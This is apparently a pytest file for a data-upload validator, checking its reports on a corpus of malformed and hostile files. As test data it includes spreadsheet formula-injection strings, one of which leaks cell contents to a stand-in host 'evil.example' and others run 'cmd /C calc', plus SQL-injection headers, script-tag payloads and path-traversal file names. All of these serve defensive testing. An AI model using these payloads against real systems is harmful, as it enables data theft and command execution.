"""Every file of the bad-upload corpus gives exactly the expected report, and none crashes."""

from __future__ import annotations

import importlib.util

import polars as pl
import pytest

from exposures.upload.pipeline import check_upload
from tests.exposures.badfiles.make_corpus import BINARY_FILES, TEXT_FILES

from .conftest import BADFILES

HAS_GEOCODE = importlib.util.find_spec("exposures.geocode") is not None
HAS_PORTS = importlib.util.find_spec("exposures.ports") is not None

ASSET_TYPES = (
    "one of office, plant, warehouse, data_centre, terminal, refinery, oilfield, retail_store, "
    "telecom_site, airport_hub, flight_corridor"
)
USD = "a number of US dollars, 0 or more"
LAT = "a number from -90 to 90 (decimal degrees)"
LON = "a number from -180 to 180 (decimal degrees)"
ID = "a non-empty id, unique in the file"
LOCATION = "a country name or ISO code, or lat and lon"
SAVE_UTF8 = "save the file as 'CSV UTF-8'"

# name -> the exact lines of the report (file errors, warnings, problems), in order.
EXPECTED_LINES: dict[str, list[str]] = {
    "empty.csv": ["Error: the file is empty (0 bytes)"],
    "blank_lines.csv": ["Error: the file holds no text (only blank lines or spaces)"],
    "header_only.csv": ["Error: the file has a header row but no data rows"],
    "valid_assets.csv": [],
    "wrong_types.csv": [
        f"row 2, column value_usd: 'abc' is not a number; accepted: {USD}",
        "row 2, column criticality: 'high' is not a number; accepted: a whole number from 1 to 5",
        "row 2, column headcount: '3.5' is not a whole number; accepted: a whole number, 0 or more",
        f"row 3, column value_usd: '12 apples' is not a number; accepted: {USD}",
        "row 4, column asset_type: 'factori' is not an accepted value (did you mean 'plant'?); "
        f"accepted: {ASSET_TYPES}",
        f"row 4, column lat: 'north' is not a number; accepted: {LAT}",
    ],
    "out_of_range_coordinates.csv": [
        f"row 2, column lat: '95' is above 90; accepted: {LAT}",
        f"row 3, column lon: '-200' is below -180; accepted: {LON}",
    ],
    "duplicate_ids.csv": [
        f"row 2, column asset_id: 'A1' appears in more than one row (rows 2, 4); accepted: {ID}",
        f"row 4, column asset_id: 'A1' appears in more than one row (rows 2, 4); accepted: {ID}",
    ],
    "ragged_rows.csv": [
        "Error: row 3 has 5 cells but the header row has 12",
        "Error: row 4 has 14 cells but the header row has 12",
        "Error: every row needs one cell per column: check these rows for an unquoted comma "
        "inside a value, or a missing one",
    ],
    "unbalanced_quote.csv": [
        'Error: row 3: a quoted cell opens here and is never closed (unbalanced "); close the '
        'quote, or double any " inside a quoted cell'
    ],
    "quote_then_text.csv": [
        "Error: row 3: text follows the closing quote of a cell; put the whole cell in quotes "
        'and double any " inside it'
    ],
    "embedded_newlines.csv": [
        "Warning: row 2, column name: 'London office\\nsecond line\\r\\nthird line' contained "
        "control or invisible characters (escape codes, tabs, line breaks, bidi marks), which "
        "were removed; kept as 'London office second line third line'; accepted: non-empty text",
        f"row 4, column value_usd: 'oops' is not a number; accepted: {USD}",
    ],
    "utf8_bom.csv": [],
    "utf16le_bom.csv": [],
    "utf16be_bom.csv": [],
    "utf16le_nobom.csv": [],
    "utf16be_nobom.csv": [],
    "cp1252.csv": [],
    "invalid_utf8.csv": [
        "Error: the file is not valid UTF-8 text: the byte at offset 167 (0xFF) cannot be "
        f"decoded; {SAVE_UTF8}"
    ],
    "binary_garbage.csv": [
        "Error: the file is not valid UTF-8 text: the byte at offset 0 (0x80) cannot be "
        f"decoded; {SAVE_UTF8}"
    ],
    "nul_bytes.csv": [
        "Error: row 3 contains a NUL byte (\\x00), which never occurs in a CSV table; the file "
        "may be damaged or not text: save it again as 'CSV UTF-8'"
    ],
    "decimal_commas.csv": [],
    "tab_delimited.tsv": [],
    "sep_hint.csv": [],
    "nan_inf.csv": [
        "row 2, column value_usd: 'NaN' is not a number (NaN); leave the cell empty if the value "
        f"is unknown; accepted: {USD}",
        f"row 3, column value_usd: 'inf' is infinite; give a finite number; accepted: {USD}",
        f"row 4, column lat: '-inf' is infinite; give a finite number; accepted: {LAT}",
        "row 5, column value_usd: '1e309' is too large (it overflows to infinity); "
        f"accepted: {USD}",
    ],
    "formula_payloads.csv": [f"row 6, column value_usd: '-5' is negative; accepted: {USD}"],
    "html_names.csv": [],
    "duplicate_headers.csv": [
        "Error: column 2 'Name' and column 3 'Site name' both map to name; remove or rename one, "
        "or pass a mapping that says which to use"
    ],
    "duplicate_unknown_headers.csv": [
        "Warning: column 7 'Notes' is not a known assets column and was ignored",
        "Warning: column 8 'Notes' is not a known assets column and was ignored",
    ],
    "sql_headers.csv": [
        "Warning: column 7 header 'x; DROP TABLE assets;--' contains ';', which is not allowed "
        "in a column name; the column was ignored",
        "Warning: column 8 header \"Robert'); DROP TABLE clients;--\" contains ';', which is not "
        "allowed in a column name; the column was ignored",
        "Warning: column 9 header 'SELECT * FROM clients' looks like an SQL statement, not a "
        "column name; the column was ignored",
    ],
    "sql_header_instead_of_name.csv": [
        "Error: the required column name is missing; add a column named name, or pass --map "
        "'HEADER=name'",
        "Warning: column 2 header 'name; DROP TABLE assets' contains ';', which is not allowed "
        "in a column name; the column was ignored",
    ],
    "rtl_zero_width_ids.csv": [
        "Warning: row 2, column asset_id: 'A\\u200b1' contained control or invisible characters "
        "(zero-width, right-to-left marks), which were removed; the id is kept as 'A1'; "
        f"accepted: {ID}",
        f"row 2, column asset_id: 'A\\u200b1' appears in more than one row (rows 2, 5); "
        f"accepted: {ID}",
        "Warning: row 3, column asset_id: '\\u202eA2' contained control or invisible characters "
        "(zero-width, right-to-left marks), which were removed; the id is kept as 'A2'; "
        f"accepted: {ID}",
        "Warning: row 4, column asset_id: 'A3\\u200f' contained control or invisible characters "
        "(zero-width, right-to-left marks), which were removed; the id is kept as 'A3'; "
        f"accepted: {ID}",
        f"row 5, column asset_id: 'A1' appears in more than one row (rows 2, 5); accepted: {ID}",
        "Warning: row 6, column name: '\\u202eeman desrever' contained control or invisible "
        "characters (escape codes, tabs, line breaks, bidi marks), which were removed; kept as "
        "'eman desrever'; accepted: non-empty text",
    ],
    "header_variants.csv": [
        "Warning: column 13 'Lattitude note' is not a known assets column and was ignored"
    ],
    "missing_required.csv": [
        "Error: the required column value_usd is missing; the column 'Valeu' may be it: rename "
        "it or pass --map 'Valeu=value_usd'",
        "Warning: column 5 'Valeu' is not a known assets column and was ignored; did you mean "
        "value_usd? (pass --map 'Valeu=value_usd')",
    ],
    "not_locatable.csv": [
        "row 2, column country: '' is empty and the row has no coordinates; give lat and lon, "
        f"or a country; accepted: {LOCATION}",
        "row 3, column lon: '' is empty but lat is given; give both lat and lon, or neither and "
        f"a country; accepted: {LON}",
        "row 4, column country: '' is empty and the row has no coordinates; give lat and lon, "
        f"or a country; accepted: {LOCATION}",
    ],
    "bad_choices.csv": [
        "row 2, column asset_type: 'wharehouse' is not an accepted value (did you mean "
        f"'warehouse'?); accepted: {ASSET_TYPES}",
        "row 3, column mitigations: 'backup site; flood wall' names an unknown mitigation "
        "('flood wall'); accepted: empty, or a list separated by ; of backup_site, "
        "continuity_plan, cyber_certification, insurance",
        "row 4, column criticality: '0' is below 1; accepted: a whole number from 1 to 5",
        "row 4, column headcount: '-4' is negative; accepted: a whole number, 0 or more",
    ],
    "valid_routes.csv": [],
    "route_header_variants.csv": [],
    "html_document.csv": [
        "Error: the file is an HTML or XML document, not a CSV, XLSX or Parquet file; open it "
        "in Excel and save it as .xlsx or CSV"
    ],
    "pdf_named.csv": [
        "Error: the file is a PDF document, not a table; upload a CSV, XLSX or Parquet file"
    ],
    "exe_named.csv": ["Error: the file is a program (Windows executable), not a table"],
    "elf_named.csv": ["Error: the file is a program (ELF executable), not a table"],
    "gzip_named.csv": [
        "Error: the file is a gzip archive; unpack it and upload the CSV, XLSX or Parquet file "
        "inside"
    ],
    # binary files
    "valid.xlsx": [
        "Warning: the workbook has 2 sheets; only 'Assets' was read (the others: 'Notes'; "
        "choose with --sheet)"
    ],
    "offset_table.xlsx": [],
    "excel_dates.xlsx": [
        "row 3, column value_usd: '2020-01-03 00:00:00' is a date, not a number (is the cell "
        f"formatted as a date?); accepted: {USD}",
        "row 3, column criticality: '1900-01-03 00:00:00' is a date, not a number (is the cell "
        "formatted as a date?); accepted: a whole number from 1 to 5",
    ],
    "zip_bomb.xlsx": [
        "Error: the workbook part 'xl/media/image1.png' expands 1,029 times (to 20,971,520 "
        "bytes), which only zip bombs do; refused"
    ],
    "lying_zip.xlsx": [
        "Error: the workbook expands to 314,587,264 bytes; the limit is 209,715,200 bytes (200 MB)"
    ],
    "many_entries.xlsx": [
        "Error: the workbook has 211 parts; the limit is 200 (a normal workbook has fewer than "
        "50): save the sheet alone as .xlsx or CSV"
    ],
    "xml_bomb.xlsx": [
        "Error: the workbook part 'xl/worksheets/sheet1.xml' declares a DTD or XML entities "
        "(an XML bomb); refused: save the workbook again from Excel"
    ],
    "external_entity.xlsx": [
        "Error: the workbook part 'xl/sharedStrings.xml' declares a DTD or XML entities "
        "(an XML bomb); refused: save the workbook again from Excel"
    ],
    "huge_dimension.xlsx": [
        "Warning: the workbook has 2 sheets; only 'Assets' was read (the others: 'Notes'; "
        "choose with --sheet)",
        "Warning: sheet 'Assets' declares its used range as A1:XFD1048576 (17,179,869,184 "
        "cells) but its cells end at L3; only the cells that exist were read",
    ],
    "far_cell.xlsx": [
        "Error: sheet 'Assets' reaches row 1,048,576, more than 1,000,000 data rows; split it "
        "into smaller files (or delete stray cells far below the table)"
    ],
    "wide_far_cell.xlsx": [
        "Error: sheet 'Assets' has cells spanning 5,000 rows x 16,384 columns (to XFD5000), over "
        "20,000,000 cells; delete stray cells far below or right of the table, or save the "
        "table alone as CSV"
    ],
    "macro.xlsm": [
        "Error: the workbook contains macros (.xlsm, vbaProject.bin); macro-enabled workbooks "
        "are refused: save it as a plain .xlsx workbook or CSV"
    ],
    "encrypted.xlsx": [
        "Error: the workbook is password-protected (encrypted); remove the password in Excel "
        "(File > Info > Protect Workbook) and upload it again, or save it as CSV"
    ],
    "legacy.xls": [
        "Error: the file is a legacy Excel 97-2003 workbook (.xls) or another OLE document; "
        "save it as .xlsx or CSV and upload that"
    ],
    "word.docx": ["Error: the file is a Word document, not a workbook"],
    "opendocument.ods": ["Error: the file is an OpenDocument file (.ods); save it as .xlsx or CSV"],
    "plain.zip": [
        "Error: the file is a zip archive that is not an Excel workbook; unzip it and upload "
        "the file"
    ],
    "damaged.xlsx": [
        "Error: the file starts like an XLSX workbook but is not a readable zip archive "
        "(damaged or truncated); save it again from Excel"
    ],
    "valid.parquet": [
        f"row 4, column asset_type: 'spaceport' is not an accepted value; accepted: {ASSET_TYPES}"
    ],
    "truncated.parquet": [
        "Error: the Parquet file is truncated (it does not end with the PAR1 footer); upload "
        "the complete file"
    ],
    "corrupt.parquet": [
        "Error: the Parquet file is damaged and could not be read; export it again (or upload CSV)"
    ],
}

# name -> (rows accepted, rows rejected) for the files that are read
EXPECTED_COUNTS: dict[str, tuple[int, int]] = {
    "valid_assets.csv": (3, 0),
    "wrong_types.csv": (0, 3),
    "out_of_range_coordinates.csv": (1, 2),
    "duplicate_ids.csv": (1, 2),
    "embedded_newlines.csv": (2, 1),
    "utf8_bom.csv": (2, 0),
    "utf16le_bom.csv": (2, 0),
    "utf16be_bom.csv": (2, 0),
    "utf16le_nobom.csv": (2, 0),
    "utf16be_nobom.csv": (2, 0),
    "cp1252.csv": (2, 0),
    "decimal_commas.csv": (3, 0),
    "tab_delimited.tsv": (1, 0),
    "sep_hint.csv": (1, 0),
    "nan_inf.csv": (1, 4),
    "formula_payloads.csv": (4, 1),
    "html_names.csv": (2, 0),
    "duplicate_unknown_headers.csv": (1, 0),
    "sql_headers.csv": (1, 0),
    "rtl_zero_width_ids.csv": (3, 2),
    "header_variants.csv": (1, 0),
    "not_locatable.csv": (0, 3),
    "bad_choices.csv": (0, 3),
    "valid_routes.csv": (2, 0),
    "route_header_variants.csv": (1, 0),
    "valid.xlsx": (2, 0),
    "offset_table.xlsx": (2, 0),
    "excel_dates.xlsx": (1, 1),
    "huge_dimension.xlsx": (2, 0),
    "valid.parquet": (2, 1),
    "unknown_country.csv": (1, 1),
    "unknown_port.csv": (2, 1),
}


def test_the_corpus_covers_the_reliability_list() -> None:
    assert len(TEXT_FILES) + len(BINARY_FILES) >= 40
    assert set(EXPECTED_LINES) | {"unknown_country.csv", "unknown_port.csv"} == set(
        TEXT_FILES
    ) | set(BINARY_FILES)


@pytest.mark.parametrize("name", sorted(TEXT_FILES))
def test_committed_text_files_are_current(name: str) -> None:
    assert (BADFILES / name).read_bytes() == TEXT_FILES[name], (
        "run: python tests/exposures/badfiles/make_corpus.py"
    )


@pytest.mark.parametrize("name", sorted(EXPECTED_LINES))
def test_corpus_file_gives_the_expected_report(check, name: str) -> None:  # type: ignore[no-untyped-def]
    result = check(name)
    assert result.report.lines() == EXPECTED_LINES[name]
    report = result.report
    if name in EXPECTED_COUNTS:
        assert (report.rows_accepted, report.rows_rejected) == EXPECTED_COUNTS[name]
        assert report.rows_total == report.rows_accepted + report.rows_rejected
        assert result.frame.height == report.rows_accepted
    else:
        assert report.file_errors or report.rows_rejected == 0
    if report.file_errors:
        assert result.frame.height == 0
        assert result.quarantine_csv == b""


@pytest.mark.skipif(not HAS_GEOCODE, reason="exposures.geocode is not installed yet")
def test_unknown_country_is_a_row_problem_with_the_geocoders_message(check) -> None:  # type: ignore[no-untyped-def]
    from exposures.geocode import geocode

    expected = geocode(
        pl.DataFrame(
            {"lat": [None], "lon": [None], "city": [None], "country": ["Atlantis"]},
            schema={"lat": pl.Float64, "lon": pl.Float64, "city": pl.String, "country": pl.String},
        )
    )["geo_error"][0]
    result = check("unknown_country.csv")
    assert [str(p) for p in result.report.problems] == [
        f"row 2, column country: 'Atlantis' cannot be located: {expected}; accepted: a known "
        "country name or ISO code (and city), or lat and lon"
    ]
    assert "Atlantis" in expected
    assert result.frame["asset_id"].to_list() == ["A2"]
    assert result.frame["country_iso3"].to_list() == ["FRA"]
    assert result.frame["geo_precision"].to_list() == ["city"]


@pytest.mark.skipif(not HAS_PORTS, reason="exposures.ports is not installed yet")
def test_unknown_port_is_a_row_problem_with_the_port_resolvers_message(check) -> None:  # type: ignore[no-untyped-def]
    from engine.errors import ExposureError
    from exposures.ports import resolve_port

    with pytest.raises(ExposureError) as err:
        resolve_port("Atlantis Harbour")
    result = check("unknown_port.csv")
    assert [str(p) for p in result.report.problems] == [
        f"row 2, column origin: 'Atlantis Harbour' cannot be resolved: {err.value}; accepted: "
        'a UN/LOCODE, a port name or "lat, lon"'
    ]
    assert result.frame["route_id"].to_list() == ["R2", "R3"]


def test_without_a_port_resolver_coordinates_are_still_range_checked(monkeypatch) -> None:  # type: ignore[no-untyped-def]
    from exposures.upload import validate

    monkeypatch.setattr(validate, "_optional", lambda module, warnings: None)
    data = (
        b"route_id,name,origin,destination,commodity,annual_value_usd\n"
        b'R1,Bad position,"95.0, 10",NLRTM,lng,100\n'
        b"R2,Anything named,Atlantis Harbour,NLRTM,lng,100\n"
    )
    result = check_upload(data, "r.csv", "routes")
    assert [str(p) for p in result.report.problems] == [
        "row 2, column origin: '95.0, 10' is not a position: latitude 95 is outside -90..90; "
        'accepted: a UN/LOCODE, a port name or "lat, lon"'
    ]


def test_a_broken_geocoder_is_a_warning_not_a_crash(monkeypatch: pytest.MonkeyPatch) -> None:
    from exposures.upload import validate

    class Broken:
        @staticmethod
        def geocode(frame: pl.DataFrame) -> pl.DataFrame:
            raise ZeroDivisionError("bug")

    monkeypatch.setattr(validate, "_optional", lambda module, warnings: Broken)
    result = check_upload((BADFILES / "valid_assets.csv").read_bytes(), "a.csv", "assets")
    assert result.report.warnings == [
        "locations were not checked (the geocoder failed: ZeroDivisionError); they are checked "
        "again when the file is loaded"
    ]
    assert result.report.rows_accepted == 3


@pytest.mark.parametrize(
    "name",
    [
        "utf8_bom.csv",
        "utf16le_bom.csv",
        "utf16be_bom.csv",
        "utf16le_nobom.csv",
        "utf16be_nobom.csv",
        "cp1252.csv",
    ],
)
def test_encodings_decode_names_right(check, name: str) -> None:  # type: ignore[no-untyped-def]
    result = check(name)
    frame = result.frame
    assert frame["asset_id"].to_list() == ["A1", "A2"]  # the BOM is not part of the header
    assert frame["name"].to_list() == ["Société Générale", "Café «Noël» – Málaga"]
    assert frame["city"].to_list() == ["Zürich", "Málaga"]
    expected = {
        "utf8_bom.csv": "utf-8-sig",
        "utf16le_bom.csv": "utf-16-le",
        "utf16be_bom.csv": "utf-16-be",
        "utf16le_nobom.csv": "utf-16-le",
        "utf16be_nobom.csv": "utf-16-be",
        "cp1252.csv": "cp1252",
    }[name]
    assert result.report.encoding == expected


def test_decimal_commas_and_thousands_separators(check) -> None:  # type: ignore[no-untyped-def]
    frame = check("decimal_commas.csv").frame
    assert frame["lat"].to_list() == [45.764, 50.6292, 43.7102]
    assert frame["lon"].to_list() == [4.8357, 3.0573, 7.262]
    assert frame["value_usd"].to_list() == [1234567.89, 12.5, 1500000.0]


def test_embedded_newlines_are_one_row_and_rows_keep_file_numbers(check) -> None:  # type: ignore[no-untyped-def]
    result = check("embedded_newlines.csv")
    # line breaks are control characters: a name is one line (the report says so)
    assert result.frame["name"].to_list() == ["London office second line third line", "Next row"]
    assert result.frame["source_row"].to_list() == [2, 3]


def test_formula_payloads_are_kept_as_literal_text(check) -> None:  # type: ignore[no-untyped-def]
    result = check("formula_payloads.csv")
    assert result.frame["name"].to_list() == [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "leading tab",  # names are trimmed: the tab goes, nothing is evaluated
    ]
    # The rejected row goes to quarantine with its formula neutralised (OWASP), numbers kept.
    lines = result.quarantine_csv.decode("utf-8-sig").splitlines()
    assert lines[0] == (
        "asset_id,name,asset_type,lat,lon,city,country,value_usd,criticality,headcount,"
        "service_id,mitigations,error"
    )
    assert lines[1] == (
        "F5,'-2+3+cmd|' /C calc'!A0,office,51,0,,,-5,3,,,,\"row 6: value_usd '-5' is negative "
        f'(accepted: {USD})"'
    )


def test_html_in_names_is_kept_literal(check) -> None:  # type: ignore[no-untyped-def]
    frame = check("html_names.csv").frame
    assert frame["name"].to_list() == [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
    ]


def test_ids_lose_invisible_characters(check) -> None:  # type: ignore[no-untyped-def]
    result = check("rtl_zero_width_ids.csv")
    assert result.frame["asset_id"].to_list() == ["A2", "A3", "A5"]
    # a right-to-left override would reorder the name wherever it is shown: it is removed
    assert result.frame["name"].to_list()[2] == "eman desrever"


def test_header_variants_map_to_canonical_columns(check) -> None:  # type: ignore[no-untyped-def]
    result = check("header_variants.csv")
    assert result.report.columns == {
        "Site ID": "asset_id",
        "Site Name": "name",
        "Site type": "asset_type",
        "LAT": "lat",
        "lng": "lon",
        "Town": "city",
        "Country code": "country",
        "Replacement value": "value_usd",
        "Tier": "criticality",
        "Employees": "headcount",
        "Service": "service_id",
        "Mitigations": "mitigations",
    }
    row = result.frame.row(0, named=True)
    assert (row["asset_id"], row["lat"], row["headcount"], row["mitigations"]) == (
        "S1",
        51.5,
        10,
        "continuity_plan",
    )


def test_routes_normalise_choices_and_defaults(check) -> None:  # type: ignore[no-untyped-def]
    frame = check("valid_routes.csv").frame
    assert frame["commodity"].to_list() == ["crude_oil", "lng"]
    assert frame["criticality"].to_list() == [5, 3]  # empty -> the default 3
    assert frame["shipments_per_year"].dtype == pl.Int64


def test_xlsx_numbers_have_no_spurious_decimals_and_formulas_stay_text(check) -> None:  # type: ignore[no-untyped-def]
    frame = check("valid.xlsx").frame
    assert frame["asset_id"].to_list() == ["A1", "1001"]
    assert frame["name"].to_list()[1] == '=HYPERLINK("http://evil.example","x")'
    assert frame["value_usd"].to_list() == [25000000.0, 1234.5]
    assert frame["criticality"].to_list() == [4, 3]


def test_xlsx_rows_are_the_sheets_row_numbers(check) -> None:  # type: ignore[no-untyped-def]
    assert check("offset_table.xlsx").frame["source_row"].to_list() == [5, 6]


def test_excel_serial_numbers_are_numbers(check) -> None:  # type: ignore[no-untyped-def]
    result = check("excel_dates.xlsx")
    assert result.report.problems[0].header == "value_usd"
    # 43833 in a plain number cell is a number (a serial date only when formatted as a date)
    assert check("valid.xlsx").frame["headcount"].to_list() == [350, 0]


def test_parquet_is_read(check) -> None:  # type: ignore[no-untyped-def]
    frame = check("valid.parquet").frame
    assert frame["asset_id"].to_list() == ["P1", "P2"]
    assert frame["value_usd"].to_list() == [1.0e6, 2.5e6]
    assert frame["source_row"].to_list() == [2, 3]


@pytest.mark.parametrize(
    ("filename", "shown", "warned"),
    [
        ("../../x.csv", "x.csv", False),
        ("..\\..\\windows\\x.csv", "x.csv", False),
        ("x.csv\x00.exe", "x.csv.exe", True),
        ("\u202excod.csv", "xcod.csv", True),
        ("", "upload", True),
    ],
)
def test_path_like_file_names_are_only_displayed_safely(
    filename: str, shown: str, warned: bool
) -> None:
    data = (BADFILES / "valid_assets.csv").read_bytes()
    report = check_upload(data, filename, "assets").report
    assert report.filename == shown
    assert report.rows_accepted == 3
    warning = "the file name contained control or invisible characters; shown as " + repr(shown)
    assert (warning in report.warnings) is warned


def test_one_byte_over_the_size_limit_is_refused() -> None:
    limit = 50 * 1024 * 1024
    data = b"asset_id\n" + b"x" * (limit - 9 + 1)
    assert len(data) == limit + 1
    report = check_upload(data, "big.csv", "assets").report
    assert report.file_errors == [
        "the file is 52,428,801 bytes, over the limit of 52,428,800 bytes (50 MB); split it "
        "into smaller files"
    ]


def test_the_size_limit_is_a_parameter_and_exactly_at_the_limit_passes() -> None:
    data = (BADFILES / "valid_assets.csv").read_bytes()
    assert check_upload(data, "a.csv", "assets", max_bytes=len(data)).report.ok
    report = check_upload(data, "a.csv", "assets", max_bytes=len(data) - 1).report
    assert report.file_errors == [
        f"the file is {len(data):,} bytes, over the limit of {len(data) - 1:,} bytes "
        f"({(len(data) - 1) / 1024 / 1024:g} MB); split it into smaller files"
    ]


def test_row_limit() -> None:
    data = (BADFILES / "valid_assets.csv").read_bytes()
    report = check_upload(data, "a.csv", "assets", max_rows=2).report
    assert report.file_errors == ["the file has more than 2 data rows; split it into smaller files"]


def test_text_named_xlsx_is_read_as_csv_with_a_warning() -> None:
    data = (BADFILES / "valid_assets.csv").read_bytes()
    report = check_upload(data, "assets.xlsx", "assets").report
    assert report.warnings == ["the file is named .xlsx but holds text; it was read as CSV"]
    assert report.rows_accepted == 3
